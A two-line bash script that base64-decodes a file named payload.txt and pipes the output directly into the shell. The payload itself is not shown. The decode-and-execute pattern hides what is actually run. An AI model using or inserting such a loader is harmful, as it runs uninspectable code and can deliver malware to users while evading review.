#!/bin/bash
base64 -d payload.txt | sh
